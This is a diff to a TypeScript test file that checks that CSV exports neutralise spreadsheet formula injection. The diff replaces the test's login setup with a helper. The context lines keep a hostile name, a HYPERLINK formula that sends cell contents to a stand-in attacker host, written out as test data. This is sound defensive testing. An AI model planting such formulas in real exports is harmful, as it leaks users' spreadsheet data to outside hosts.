@@ -2,9 +2,9 @@
 // the names travel through drafts and the audit trail, and every CSV export in the route table
 // gives them back as text: no exported cell starts with a character a spreadsheet would run.
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { routes } from '../../services/api/routes/index.ts';
-import { type Api, startTestGatepost, type TestGatepost } from '../support/gatepost.ts';
+import { signedInGatepost } from '../support/gatepost-for-file.ts';
 
 const hostileNames = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Open report")',
@@ -33,16 +33,7 @@ const roster = [
 const csvRoutes = routes.filter((r) => r.method === 'get' && /\.csv$|CSV/.test(`${r.path} ${r.summary}`));
 const formulaStart = /^[=+\-@\t\r]/;
 
-let gp: TestGatepost;
-let officer: Api;
-let head: Api;
-
-beforeAll(async () => {
-  gp = await startTestGatepost({ role: 'api' });
-  officer = await gp.login('officer');
-  head = await gp.login('head');
-});
-afterAll(() => gp?.stop());
+const { gp, officer, head } = signedInGatepost({ role: 'api', as: ['officer', 'head'] });
 
 describe('formula injection through a CSV import', () => {
   it('is neutralised in every CSV export', async () => {
